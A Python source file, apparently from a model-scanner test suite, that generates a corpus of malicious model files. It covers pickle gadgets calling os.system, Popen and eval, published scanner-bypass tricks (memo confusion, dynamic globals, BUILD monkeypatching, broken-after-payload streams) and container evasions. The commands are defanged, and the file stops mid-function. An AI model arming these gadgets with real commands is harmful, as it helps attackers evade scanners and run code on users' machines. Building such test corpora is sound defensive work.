"""Generator of malicious model files: every published scanner bypass class, in every container.

Nothing here ever runs a payload. Pickles are assembled opcode by opcode (``Asm``) from an expression
tree, so the callables they name are never imported, let alone called, while the corpus is built; the
Keras Lambda bytecode is ``compile``d (not run) and marshalled. Every command a payload would run is
harmless anyway (``echo`` to ``/dev/null``, paths under a directory that does not exist, a closed local
port), in case someone loads a corpus file by mistake.

Bypass classes covered (``payloads()`` and the container functions), with where each was published:

=================================  ==========================================================================
class                              source
=================================  ==========================================================================
os_system, posix_system            the classic ``__reduce__`` payload; picklescan README, fickling README
builtins_eval/exec, py2_builtin    ``__builtin__`` vs ``builtins`` spelling: picklescan tests (malicious2_v0)
subprocess_*, pty_spawn_obj        fickling PR #108 (pty via OBJ), modelscan denylist
runpy_run_code                     picklescan malicious tests (runpy._run_code)
importlib_getattr_chain            modelscan issue #331; picklescan issue #66 (import_module + getattr)
sys_modules_lookup                 picklescan tests/data/sys_module_override_sploit.pkl
operator_attrgetter/methodcaller   picklescan GHSA-m273-6v24-x4m4, GHSA-955r-x9j8-7rhh (``_operator``)
functools_partial                  fickling PR #210 (functools.partial wrapper bypass)
numpy_runstring, numpy_f2py        picklescan advisories (numpy.testing._private.utils.runstring), fickling #210
torch_* (bottleneck, collect_env,  picklescan PR #47 / #49: GHSA-4r9r-ch6f-vxmx, GHSA-4whj-rm5r-c2v8,
 dynamo guards, fx symbolic,        GHSA-86cj-95qr-2p4f, GHSA-f4x7-rfwp-v3xw, GHSA-f745-w6jp-hpxx,
 datapipes decoder, jit execWrapper GHSA-h3qp-7fh3-f8h4, GHSA-vr7h-p6mm-wpmh, GHSA-vv6j-3g6g-2pvj; modelscan #338
 _config_module, _inductor, dist.)  (torch.utils.collect_env.run); torch._inductor / torch.distributed gadgets
torch_load_nested, storage bytes   torch.load inside a pickle; torch.storage._load_from_bytes nested pickle
pip_main, ensurepip, venv          CVE-2025-1716; GHSA-xp4f-hrf8-rxw7; GHSA-vqmv-47xg-9wpr
idlelib_*, lib2to3_*               GHSA-m869-42cg-3xwr, GHSA-3gf5-cxq9-w223, GHSA-j343-8v2j-ff7w,
                                   GHSA-6w4w-5w54-rjvr, GHSA-3vg9-h568-4w9m, GHSA-p9w7-82w4-7q8m, GHSA-f54q-57x4-jg88
pydoc_pipepager, pyrepl_pager      GHSA-g38g-8gr9-h9xp (pager pipes), picklescan PR #65
uuid/imaplib/_osx/_aix_support     GHSA-g38g-8gr9-h9xp (CVE-2026-56315: stdlib command runners)
pkgutil_resolve_name               GHSA-vvpj-8cmc-gx39 (universal resolve_name bypass)
io_fileio, logging_filehandler     picklescan tests data2/io_FileIO.pkl, logging_FileHandler.pkl; CVE-2025-10156
ctypes_cdll                        ctypes in modelscan/fickling denylists
cprofile/profile/trace/timeit      GHSA-9w88-8rmg-7g2p, GHSA-x696-vm39-cp64, GHSA-5qwp-399c-mjwf, GHSA-v7x6-rv5q-mhwc
code_interactive, doctest          picklescan PR #48 (code.InteractiveInterpreter), GHSA-fqq6-7vqf-w3fg
distutils_write_file, shutil       CVE-2025-10155/10156 (JFrog), fickling PR #210
webbrowser_open                    modelaudit PR #253 (drhyrum/bert-tiny-torch-picklebomb)
requests/urllib/aiohttp/http       GHSA-hgrh-qx5j-jfwx; modelscan #338 (urllib download)
asyncio_subprocess                 CVE-2025-10157 (asyncio.unix_events._UnixSubprocessTransport)
numpy_load, pandas_read_pickle,    pickle-based loading paths: "The Art of Hide and Seek" (arXiv 2508.19774);
 joblib_load, pandas_read_csv       modelscan #338 (pandas read_csv exfiltration)
pickle_loads_nested                GHSA-84r2-jw7c-4r5q; modelscan issue #267
multiprocessing_spawnv, mlflow     modelscan issue #338
memo_stack_global                  picklescan issue #14 (BINPUT/MEMOIZE mix), imaginaryctf memo bypass (#22)
dynamic_stack_global               modelscan issue #331 (module name built by str.join)
build_monkeypatch                  modelscan issue #85 (BUILD on numpy.prod, then dotted GLOBAL)
numpy_builtins_dunder              modelscan issue #330 (numpy.__builtins__ via STACK_GLOBAL)
build_setstate                     BUILD slot state installs ``__setstate__`` (pickle protocol semantics)
inst_opcode, obj_opcode, newobj    opcodes other than REDUCE that call (fickling PR #108, pickletools docs)
ext_code                           EXT1 after copyreg.add_extension (extension registry)
dotted_global                      protocol-4 dotted names reaching os through torch (``torch`` ``os.system``)
call_then_pop, call_then_build     fickling: calls that vanish when the result is POPped / BUILD-consumed
                                   (GHSA-mhc9-48gj-9gp3, HN write-up of modelaudit)
broken_after_payload_*             nullifAI (ReversingLabs; picklescan GHSA-9gvj-pp9x-gcfr parsing flaw)
cloudpickle_code, dill, types      picklescan tests data2/cloudpickle_codeinjection.pkl; modelscan issue #28 (dill)
socket_dns_exfil                   picklescan tests data2/dns_exfiltration.npy
subinterpreters                    fickling GHSA-6ggj-6f2q-f7mx (_interpreters.run_string)
scanner_deactivation               fickling PR #249 (pickle imports the scanner itself)
---------------------------------  --------------------------------------------------------------------------
containers                         raw pickle p0/p2/p4/p5; PyTorch zip (``archive/data.pkl``, odd prefixes,
                                   nested folders, payload in a non-.pkl member, duplicate names, junk before
                                   the zip); PyTorch legacy (payload in the data pickle and in the sys_info
                                   pickle: picklescan pytorch_magic_bypass.pt); joblib plain/zlib/gzip/bz2/xz/
                                   lzma; .npy object array; .npz (stored and deflated); nested zip/tar/tar.gz/
                                   gzip/7z and zip-in-tar; lying extensions (.png/.txt/.safetensors/.bin:
                                   picklescan 0.0.31 fix, "scanner picks analysis by extension")
zip_flag_* / zip_bad_crc           picklescan tests malicious1_0x1/0x20/0x40.zip, malicious1_crc.zip,
 / zip_central_directory            malicious1_central_directory.zip (zipfile refuses, torch's reader does not)
keras_lambda*, keras_module        Keras Lambda marshal (modelscan issue tracker; mkiani/unsafe-keras),
                                   CVE-2025-1550 (config names an arbitrary module)
h5_lambda*                         Keras 2 HDF5 ``model_config`` with a Lambda layer (modelscan H5 scanner)
keras2_custom_layer                Keras 2 config (.h5 / .keras) naming a layer class Keras does not define and no
                                   module: resolved from custom objects at load (top level, wrapper, RNN cell)
zip_broken_central_directory       central directory truncated, garbled or missing (zipfile refuses the archive);
                                   stored members, deflated and stored members with data descriptors, payload last
onnx_external_*                    ONNX external data path traversal (CVE-2024-27318 / CVE-2024-27319 class)
safetensors_*                      header validation: overlapping offsets, trailing data, oversized header,
                                   bad dtype, out-of-bounds offsets, shape/size mismatch, non-JSON header
=================================  ==========================================================================
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

CMD = "echo bastion-corpus >/dev/null"
NOWHERE = "/nonexistent-bastion-corpus/x"
URL = "http://127.0.0.1:9/bastion-corpus"
PY = "print('bastion-corpus')"

PROTOCOLS = (0, 2, 4, 5)

# -- a tiny pickle assembler -------------------------------------------------------------------------


@dataclass(frozen=True)
class G:
    """A global ``module.name`` (pushed with GLOBAL below protocol 4, STACK_GLOBAL from 4)."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """``func(*args)`` through REDUCE."""

    func: Any
    args: tuple[Any, ...] = ()


@dataclass(frozen=True)
class Raw:
    """Opcodes written by hand (``fn(asm)`` emits them)."""

    fn: Callable[[Asm], None]


#: what ``Asm.emit`` accepts: G, Call, Raw, str, bytes, int, bool, None and tuples/lists/dicts of those
Expr = Any


class Asm:
    """Writes pickle opcodes for one protocol; never imports what it names."""

    def __init__(self, proto: int) -> None:
        self.proto = proto
        self.out = bytearray()
        self.memo_next = 0

    def op(self, code: bytes) -> None:
        self.out += code

    def string(self, s: str) -> None:
        if self.proto == 0:
            # protocol 0 text: escape what would end the line, as pickle itself does
            esc = (s.replace("\\", "\\u005c").replace("\0", "\\u0000").replace("\n", "\\u000a")
                   .replace("\r", "\\u000d").replace("\x1a", "\\u001a"))
            self.out += b"V" + esc.encode("raw-unicode-escape") + b"\n"
            return
        raw = s.encode("utf-8")
        if self.proto >= 4 and len(raw) < 256:
            self.out += b"\x8c" + bytes([len(raw)]) + raw
        else:
            self.out += b"X" + struct.pack("<I", len(raw)) + raw

    def integer(self, n: int) -> None:
        if self.proto == 0:
            self.out += b"I" + str(n).encode() + b"\n"
        elif -(2**31) <= n < 2**31:
            self.out += b"J" + struct.pack("<i", n)
        else:
            raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
            self.out += b"\x8a" + bytes([len(raw)]) + raw

    def global_(self, module: str, name: str) -> None:
        if self.proto >= 4:
            self.string(module)
            self.string(name)
            self.out += b"\x93"
        else:
            self.out += b"c" + module.encode() + b"\n" + name.encode() + b"\n"

    def put(self) -> int:
        idx = self.memo_next
        self.memo_next += 1
        if self.proto >= 4:
            self.out += b"\x94"
        elif self.proto >= 1:
            self.out += b"r" + struct.pack("<I", idx)
        else:
            self.out += b"p" + str(idx).encode() + b"\n"
        return idx

    def get(self, idx: int) -> None:
        if self.proto >= 1:
            self.out += b"j" + struct.pack("<I", idx)
        else:
            self.out += b"g" + str(idx).encode() + b"\n"

    def emit(self, e: Expr) -> None:
        if isinstance(e, G):
            self.global_(e.module, e.name)
        elif isinstance(e, Call):
            self.emit(e.func)
            self.emit(tuple(e.args))
            self.out += b"R"
        elif isinstance(e, Raw):
            e.fn(self)
        elif e is None:
            self.out += b"N"
        elif isinstance(e, bool):
            if self.proto >= 2:
                self.out += b"\x88" if e else b"\x89"
            else:
                self.out += b"I01\n" if e else b"I00\n"
        elif isinstance(e, int):
            self.integer(e)
        elif isinstance(e, float):
            self.out += (b"F" + repr(e).encode() + b"\n") if self.proto == 0 else (b"G" + struct.pack(">d", e))
        elif isinstance(e, str):
            self.string(e)
        elif isinstance(e, bytes):
            if self.proto >= 3:
                self.out += b"B" + struct.pack("<I", len(e)) + e
            else:
                # what pickle itself writes for bytes below protocol 3
                self.emit(Call(G("_codecs", "encode"), (e.decode("latin1"), "latin1")))
        elif isinstance(e, tuple):
            if not e:
                self.out += b")"
            elif self.proto >= 2 and len(e) <= 3:
                for item in e:
                    self.emit(item)
                self.out += {1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(e)]
            else:
                self.out += b"("
                for item in e:
                    self.emit(item)
                self.out += b"t"
        elif isinstance(e, list):
            self.out += b"("
            for item in e:
                self.emit(item)
            self.out += b"l"
        elif isinstance(e, dict):
            self.out += b"("
            for k, v in e.items():
                self.emit(k)
                self.emit(v)
            self.out += b"d"
        else:
            raise TypeError(f"cannot assemble {type(e).__name__}")

    def finish(self, stop: bool = True) -> bytes:
        body = bytes(self.out) + (b"." if stop else b"")
        if self.proto < 2:
            return body
        head = b"\x80" + bytes([self.proto])
        if self.proto >= 5:
            # one frame around everything, as the C pickler writes for small pickles
            return head + b"\x95" + struct.pack("<Q", len(body)) + body
        return head + body


def assemble(e: Expr, proto: int) -> bytes:
    a = Asm(proto)
    a.emit(e)
    return a.finish()


# -- payloads ------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    name: str
    source: str
    build: Callable[[int], bytes]
    #: the least severity the scanner must report: CRITICAL where a published, well-known primitive runs
    #: code, HIGH where only an allowlist (not a denylist) can know the gadget
    expect: str = "critical"


def _expr(name: str, source: str, e: Expr, expect: str = "critical") -> Payload:
    return Payload(name, source, lambda proto: assemble(e, proto), expect)


def _getattr(obj: Expr, attr: str) -> Call:
    return Call(G("builtins", "getattr"), (obj, attr))


def _import(mod: str) -> Call:
    return Call(G("importlib", "import_module"), (mod,))


def _memo_stack_global(a: Asm) -> None:
    # memo confusion (picklescan #14): BINPUT writes indices a scanner that only counts MEMOIZE misses,
    # so memo[0]/memo[1] hold "os"/"system" while a naive tracker thinks they hold torch names
    a.string("os")
    a.out += b"q\x00"
    a.string("system")
    a.out += b"q\x01"
    a.out += b"0"  # POP
    a.out += b"0"
    a.string("torch._utils")
    a.out += b"\x94"
    a.string("_rebuild_tensor_v2")
    a.out += b"\x94"
    a.out += b"00"
    a.out += b"h\x00h\x01\x93"  # BINGET 0, BINGET 1, STACK_GLOBAL
    a.string(CMD)
    a.out += b"\x85R"


def _dynamic_stack_global(a: Asm) -> None:
    # module name computed at load time: "".join(["o", "s"]) (modelscan #331)
    join = _getattr("", "join")
    a.emit(Call(join, (["o", "s"],)))
    a.emit(Call(join, (["sys", "tem"],)))
    a.out += b"\x93"
    a.emit((CMD,))
    a.out += b"R"


def _build_monkeypatch(a: Asm) -> None:
    # modelscan #85: BUILD sets attributes on an allowed function, then dotted names read them back
    a.global_("numpy", "prod")
    a.emit((None, {"a": "os", "b": "system"}))
    a.out += b"b0"  # BUILD, POP
    a.global_("numpy", "prod.a")
    idx_a = a.put()
    a.global_("numpy", "prod.b")
    idx_b = a.put()
    a.out += b"00"
    a.get(idx_a)
    a.get(idx_b)
    a.out += b"\x93"
    a.emit((CMD,))
    a.out += b"R"


def _numpy_builtins(a: Asm) -> None:
    # modelscan #330: numpy.__builtins__ is the builtins dict; take eval out of it
    a.emit(Call(G("operator", "getitem"), (G("numpy", "__builtins__"), "eval")))
    a.emit(("__import__('os').system('" + CMD + "')",))
    a.out += b"R"


def _build_setstate(a: Asm) -> None:
    # BUILD with (None, slotstate) setattr()s __setstate__ on an allowed instance; the next BUILD calls it
    a.emit(Call(G("argparse", "Namespace")))
    a.emit((None, {"__setstate__": G("os", "system")}))
    a.out += b"b"
    a.emit(CMD)
    a.out += b"b"


def _inst(a: Asm) -> None:
    a.out += b"("
    a.emit(CMD)
    a.out += b"ios\nsystem\n"


def _obj_pty(a: Asm) -> None:
    a.out += b"("
    a.global_("pty", "spawn")
    a.emit(CMD)
    a.out += b"o"


def _newobj(a: Asm) -> None:
    a.global_("subprocess", "Popen")
    a.emit((["/bin/sh", "-c", CMD],))
    a.out += b"\x81"


def _newobj_ex(a: Asm) -> None:
    a.global_("_io", "FileIO")
    a.emit((NOWHERE, "w"))
    a.emit({})
    a.out += b"\x92"


def _ext(a: Asm) -> None:
    # register os.system as extension 0xB5 at load time, then call it through EXT1
    a.emit(Call(G("copyreg", "add_extension"), ("os", "system", 0xB5)))
    a.out += b"0\x82\xb5"
    a.emit((CMD,))
    a.out += b"R"


def _call_then_pop(a: Asm) -> None:
    a.emit(Call(G("os", "system"), (CMD,)))
    a.out += b"0"
    a.emit({"weights": [1, 2, 3]})


def _call_then_build(a: Asm) -> None:
    a.emit(Call(G("collections", "OrderedDict")))
    a.emit({"conn": Call(G("smtplib", "SMTP"), ("127.0.0.1", 9))})
    a.out += b"b"  # BUILD: the call's result only feeds the state of an innocent object


def _raw(name: str, source: str, fn: Callable[[Asm], None], expect: str = "critical") -> Payload:
    return Payload(name, source, lambda proto: assemble(Raw(fn), proto), expect)


def _broken(name: str, tail: bytes, stop: bool) -> Payload:
    # nullifAI: the payload runs, then the stream breaks, so strict parsers give up before reporting it
    def build(proto: int) -> bytes:
        a = Asm(proto)
        a.emit(Call(G("os", "system"), (CMD,)))
        a.out += tail
        return a.finish(stop=stop)

    return Payload(name, "nullifAI (ReversingLabs 2025); picklescan GHSA-9gvj-pp9x-gcfr", build)


INNER = assemble(Call(G("os", "system"), (CMD,)), 2)


def payloads() -> list[Payload]:
    """Every pickle bypass class, one Payload each."""
    gh = "picklescan GHSA-"
    return [
        _expr("os_system", "classic __reduce__", Call(G("os", "system"), (CMD,))),
        _expr("posix_system", "classic, posix spelling", Call(G("posix", "system"), (CMD,))),
        _expr("builtins_eval", "classic", Call(G("builtins", "eval"), ("__import__('os')",))),
        _expr("builtins_exec", "classic", Call(G("builtins", "exec"), (PY,))),
        _expr("py2_builtin_eval", "picklescan malicious2_v0 (__builtin__)",
              Call(G("__builtin__", "eval"), ("1",))),
        _expr("subprocess_popen", "modelscan denylist", Call(G("subprocess", "Popen"), (["/bin/sh", "-c", CMD],))),
        _expr("subprocess_check_output", "modelscan denylist",
              Call(G("subprocess", "check_output"), (CMD, None, None, None, True))),
        _expr("runpy_run_code", "picklescan malicious tests", Call(G("runpy", "_run_code"), (PY, {}))),
        _expr("importlib_getattr_chain", "modelscan #331, picklescan #66",
              Call(_getattr(_import("os"), "system"), (CMD,))),
        _expr("builtins_import_getattr", "getattr chains",
              Call(_getattr(Call(G("builtins", "__import__"), ("os",)), "system"), (CMD,))),
        _expr("sys_modules_lookup", "picklescan sys_module_override_sploit.pkl",
              Call(_getattr(Call(_getattr(G("sys", "modules"), "get"), ("os",)), "system"), (CMD,))),
        _expr("operator_attrgetter", gh + "m273-6v24-x4m4",
              Call(Call(G("operator", "attrgetter"), ("system",)), (_import("os"),))),
        _expr("_operator_attrgetter", gh + "955r-x9j8-7rhh",
              Call(Call(G("_operator", "attrgetter"), ("system",)), (_import("os"),))),
        _expr("operator_methodcaller", gh + "m273-6v24-x4m4",
              Call(Call(G("operator", "methodcaller"), ("system", CMD)), (_import("os"),))),
        _expr("functools_partial", "fickling PR #210",
              Call(Call(G("functools", "partial"), (G("os", "system"), CMD)), ())),
        _expr("numpy_runstring", "picklescan advisories (numpy.testing)",
              Call(G("numpy.testing._private.utils", "runstring"), (PY, {}))),
        _expr("numpy_f2py", "fickling PR #210", Call(G("numpy.f2py.crackfortran", "getlincoef"), (PY, {}))),
        _expr("torch_bottleneck_cprofile", gh + "4r9r-ch6f-vxmx",
              Call(G("torch.utils.bottleneck.__main__", "run_cprofile"), (PY, {}))),
        _expr("torch_bottleneck_autograd", gh + "4whj-rm5r-c2v8",
              Call(G("torch.utils.bottleneck.__main__", "run_autograd_prof"), (PY, {}))),
        _expr("torch_dynamo_guards", gh + "86cj-95qr-2p4f",
              Call(G("torch._dynamo.guards", "GuardBuilder.get"), (None, PY))),
        _expr("torch_fx_symbolic", gh + "f4x7-rfwp-v3xw",
              Call(G("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
                   (None, PY, []))),
        _expr("torch_collect_env_run", gh + "f745-w6jp-hpxx, modelscan #338",
              Call(G("torch.utils.collect_env", "run"), (CMD,))),
        _expr("torch_datapipes_decoder", gh + "h3qp-7fh3-f8h4",
              Call(G("torch.utils.data.datapipes.utils.decoder", "basichandlers"), ("pickle", INNER))),
        _expr("torch_jit_execwrapper", gh + "vr7h-p6mm-wpmh",
              Call(G("torch.jit.unsupported_tensor_ops", "execWrapper"), (PY,))),
        _expr("torch_config_module", gh + "vv6j-3g6g-2pvj",
              Call(G("torch.utils._config_module", "ConfigModule.load_config"), (None, INNER))),
        _expr("torch_inductor", "torch._inductor code cache",
              Call(G("torch._inductor.codecache", "PyCodeCache.load"), (PY,))),
        _expr("torch_distributed", "torch.distributed launcher",
              Call(G("torch.distributed.run", "main"), (["--no-python", "/bin/sh", "-c", CMD],))),
        _expr("torch_load_nested", "torch.load inside a pickle", Call(G("torch", "load"), (NOWHERE, None, None))),
        _expr("torch_storage_from_bytes", "torch.storage._load_from_bytes nested pickle",
              Call(G("torch.storage", "_load_from_bytes"), (INNER,))),
        _expr("pip_main", "CVE-2025-1716", Call(G("pip", "main"), (["install", "bastion-corpus-nonexistent"],))),
        _expr("pip_internal_main", "CVE-2025-1716",
              Call(G("pip._internal", "main"), (["install", "bastion-corpus-nonexistent"],))),
        _expr("ensurepip_run_pip", gh + "xp4f-hrf8-rxw7", Call(G("ensurepip", "_run_pip"), (["--version"],))),
        _expr("venv_create", gh + "vqmv-47xg-9wpr", Call(G("venv", "create"), (NOWHERE,))),
        _expr("idlelib_executive_runcode", gh + "m869-42cg-3xwr",
              Call(G("idlelib.run", "Executive.runcode"), (None, PY))),
        _expr("idlelib_pyshell_runcode", gh + "3gf5-cxq9-w223",
              Call(G("idlelib.pyshell", "ModifiedInterpreter.runcode"), (None, PY))),
        _expr("idlelib_autocomplete", gh + "6w4w-5w54-rjvr",
              Call(G("idlelib.autocomplete", "AutoComplete.get_entity"), (None, PY))),
        _expr("idlelib_debugobj", gh + "3vg9-h568-4w9m", Call(G("idlelib.debugobj", "ObjectTreeItem"), (PY,))),
        _expr("lib2to3_make_label", gh + "p9w7-82w4-7q8m",
              Call(G("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), (None, None, PY))),
        _expr("lib2to3_grammar_loads", gh + "f54q-57x4-jg88",
              Call(G("lib2to3.pgen2.grammar", "Grammar.loads"), (None, INNER))),
        _expr("pydoc_pipepager", "pydoc pipes (GHSA-g38g-8gr9-h9xp class)",
              Call(G("pydoc", "pipepager"), ("x", CMD))),
        _expr("pyrepl_pager", gh + "g38g-8gr9-h9xp", Call(G("_pyrepl.pager", "pipe_pager"), ("x", CMD))),
        _expr("uuid_command", gh + "g38g-8gr9-h9xp", Call(G("uuid", "_get_command_stdout"), ("sh", "-c", CMD))),
        _expr("imaplib_stream", gh + "g38g-8gr9-h9xp", Call(G("imaplib", "IMAP4_stream"), (CMD,))),
        _expr("osx_support", gh + "g38g-8gr9-h9xp", Call(G("_osx_support", "_read_output"), (CMD,))),
        _expr("aix_support", gh + "g38g-8gr9-h9xp", Call(G("_aix_support", "_read_cmd_output"), (CMD,))),
        _expr("pkgutil_resolve_name", gh + "vvpj-8cmc-gx39",
              Call(Call(G("pkgutil", "resolve_name"), ("os:system",)), (CMD,))),
        _expr("io_fileio", "picklescan data2/io_FileIO.pkl, CVE-2025-10156", Call(G("_io", "FileIO"), (NOWHERE, "w"))),
        _expr("logging_filehandler", "picklescan data2/logging_FileHandler.pkl",
              Call(G("logging", "FileHandler"), (NOWHERE,))),
        _expr("ctypes_cdll", "ctypes", Call(_getattr(Call(G("ctypes", "CDLL"), (None,)), "system"), (b"true",))),
        _expr("cprofile_run", gh + "9w88-8rmg-7g2p", Call(G("cProfile", "run"), (PY,))),
        _expr("profile_run", gh + "x696-vm39-cp64", Call(G("profile", "Profile.run"), (None, PY))),
        _expr("trace_run", gh + "5qwp-399c-mjwf", Call(G("trace", "Trace.run"), (None, PY))),
        _expr("timeit", "picklescan GHSA-v7x6-rv5q-mhwc", Call(G("timeit", "timeit"), (PY, "pass", None, 1))),
        _expr("code_interactive", "picklescan PR #48",
              Call(G("code", "InteractiveInterpreter.runsource"), (None, PY))),
        _expr("doctest_debug_script", gh + "fqq6-7vqf-w3fg", Call(G("doctest", "debug_script"), (PY,))),
        _expr("distutils_write_file", "CVE-2025-10155", Call(G("distutils.file_util", "write_file"), (NOWHERE, [PY]))),
        _expr("shutil_rmtree", "fickling PR #210", Call(G("shutil", "rmtree"), (NOWHERE,))),
        _expr("webbrowser_open", "modelaudit PR #253", Call(G("webbrowser", "open"), (URL,))),
        _expr("requests_get", gh + "hgrh-qx5j-jfwx", Call(G("requests", "get"), (URL,))),
        _expr("urllib_urlopen", "modelscan #338", Call(G("urllib.request", "urlopen"), (URL,))),
        _expr("aiohttp_session", gh + "hgrh-qx5j-jfwx", Call(G("aiohttp", "ClientSession"), ())),
        _expr("http_client", gh + "hgrh-qx5j-jfwx", Call(G("http.client", "HTTPConnection"), ("127.0.0.1", 9))),
        _expr("asyncio_subprocess", "CVE-2025-10157",
              Call(G("asyncio.unix_events", "_UnixSubprocessTransport"), (None, CMD, True, None, None, None, 0))),
        _expr("numpy_load_pickle", "arXiv 2508.19774 loading paths", Call(G("numpy", "load"), (NOWHERE, None, True))),
        _expr("pandas_read_pickle", "arXiv 2508.19774 loading paths", Call(G("pandas", "read_pickle"), (NOWHERE,))),
        _expr("pandas_read_csv_exfil", "modelscan #338",
              Call(G("pandas.io.parsers.readers", "read_csv"), (URL,))),
        _expr("joblib_load_nested", "arXiv 2508.19774 loading paths", Call(G("joblib", "load"), (NOWHERE,))),
        _expr("pickle_loads_nested", gh + "84r2-jw7c-4r5q, modelscan #267", Call(G("pickle", "loads"), (INNER,))),
        _expr("multiprocessing_spawnv", "modelscan #338",
              Call(G("multiprocessing.util", "spawnv_passfds"), (b"/bin/sh", ("/bin/sh", "-c", CMD), ()))),
        _expr("mlflow_entry_point", "modelscan #338 (third-party gadget: allowlist only)",
              Call(G("mlflow.projects.backend.local", "_run_entry_point"), (CMD, ".", "", "")), expect="high"),
        _expr("cloudpickle_code", "picklescan data2/cloudpickle_codeinjection.pkl",
              Call(G("cloudpickle.cloudpickle", "_make_function"), (None, {}, None, None, None))),
        _expr("dill_code", "modelscan #28 (dill)", Call(G("dill._dill", "_create_code"), (0, 0, PY))),
        _expr("types_function", "types.FunctionType", Call(G("types", "FunctionType"), (None, {}))),
        _expr("socket_dns_exfil", "picklescan data2/dns_exfiltration.npy",
              Call(G("socket", "gethostbyname"), ("bastion-corpus.invalid",))),
        _expr("subinterpreters", "fickling GHSA-6ggj-6f2q-f7mx",
              Call(G("_interpreters", "run_string"), (0, PY))),
        _expr("scanner_deactivation", "fickling PR #249",
              Call(G("fickling.hook", "remove_hook"), ()), expect="high"),
        _expr("dotted_global", "protocol-4 dotted names", Call(G("torch", "os.system"), (CMD,))),
        _raw("memo_stack_global", "picklescan #14 / #22", _memo_stack_global),
        _raw("dynamic_stack_global", "modelscan #331", _dynamic_stack_global),
        _raw("build_monkeypatch", "modelscan #85", _build_monkeypatch),
        _raw("numpy_builtins_dunder", "modelscan #330", _numpy_builtins),
        _raw("build_setstate", "BUILD installs __setstate__", _build_setstate),
        _raw("inst_opcode", "pickletools INST", _inst),
        _raw("obj_opcode_pty", "fickling PR #108", _obj_pty),
        _raw("newobj_popen", "NEWOBJ on a dangerous class", _newobj),
        _raw("newobj_ex_fileio", "NEWOBJ_EX on _io.FileIO", _newobj_ex),
        _raw("ext_code", "EXT1 after copyreg.add_extension", _ext),
        _raw("call_then_pop", "fickling: call vanishes when POPped", _call_then_pop),
        _raw("call_then_build", "fickling GHSA-mhc9-48gj-9gp3 (BUILD consumes the call)", _call_then_build),
        _broken("broken_after_payload_no_stop", b"", stop=False),
        _broken("broken_after_payload_bad_opcode", b"\xff\xfe", stop=True),
        _broken("broken_after_payload_truncated_arg", b"X\xff\xff\x00\x00ab", stop=False),
        _broken("broken_after_payload_stack_underflow", b"0000t", stop=True),
    ]


# -- containers ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One malicious file: where it goes, what it carries and what the scanner must report."""

    name: str  # unique; also the file stem
    bypass: str
    container: str
    source: str
    filename: str
    data: bytes = field(repr=False)
    expect: str = "critical"  # least severity: "critical" or "high"


def _zip(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w", compression) as zf:
        warnings.simplefilter("ignore", UserWarning)  # duplicate member names are one of the cases
        for name, data in members:
            # fixed timestamps keep the corpus byte-for-byte reproducible
            zf.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data, compress_type=compression)
    return buf.getvalue()


def torch_zip(pkl: bytes, prefix: str = "archive", extra: list[tuple[str, bytes]] | None = None,
              pickle_member: str = "data.pkl") -> bytes:
    """A PyTorch zip checkpoint whose data.pkl is ``pkl`` (what torch.save writes, minus tensors)."""
    members = [(f"{prefix}/{pickle_member}", pkl), (f"{prefix}/byteorder", b"little"),
               (f"{prefix}/version", b"3\n"), (f"{prefix}/.data/serialization_id", b"0" * 40)]
    return _zip(members + (extra or []))


def streamed_zip(pkl: bytes, compression: int = zipfile.ZIP_STORED, last: bool = False) -> bytes:
    """A PyTorch-style zip written to an unseekable stream: sizes follow each member in a data descriptor
    (flag 0x08, zeros in the local header), as torch.save's writer also does."""

    class Unseekable(io.RawIOBase):
        def __init__(self) -> None:
            self.buf = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, b: Any) -> int:
            self.buf += bytes(b)
            return len(b)

    out = Unseekable()
    with zipfile.ZipFile(out, "w", compression) as zf:
        members = [("archive/data.pkl", pkl), ("archive/byteorder", b"little"), ("archive/version", b"3\n")]
        if last:  # the payload behind members whose ends only their descriptors tell
            members = [("archive/data.pkl", _BENIGN), *members[1:], ("archive/data/0", pkl)]
        for name, data in members:
            info = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
            info.compress_type = compression
            with zf.open(info, "w") as fh:
                fh.write(data)
    return bytes(out.buf)


_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def torch_legacy(pkl: bytes, in_sys_info: bool = False) -> bytes:
    """PyTorch's pre-1.6 format: magic, protocol, sys_info, data and storage-keys pickles back to back."""
    import pickle

    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                             "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    main = pickle.dumps({"weight": 1.0}, protocol=2)
    if in_sys_info:
        sys_info = pkl
    else:
        main = pkl
    return (pickle.dumps(_LEGACY_MAGIC, protocol=2) + pickle.dumps(1001, protocol=2) + sys_info + main
            + pickle.dumps([], protocol=2))


def npy_object(pkl: bytes) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return buf.getvalue() + pkl


def _tar(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:  # type: ignore[call-overload]
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _7z(members: list[tuple[str, bytes]]) -> bytes:
    import py7zr

    buf = io.BytesIO()
    # a small LZMA2 dictionary: the default preset spends 0.2 s allocating one per archive
    with py7zr.SevenZipFile(buf, "w", filters=[{"id": py7zr.FILTER_LZMA2, "preset": 0}]) as z:
        for name, data in members:
            z.writestr(data, name)
    return buf.getvalue()


def _patch_zip(data: bytes, *, flag: int = 0, bad_crc: bool = False, central_name: str | None = None) -> bytes:
    """Edit headers so Python's zipfile refuses or misreads members that other readers still load."""
    out = bytearray(data)
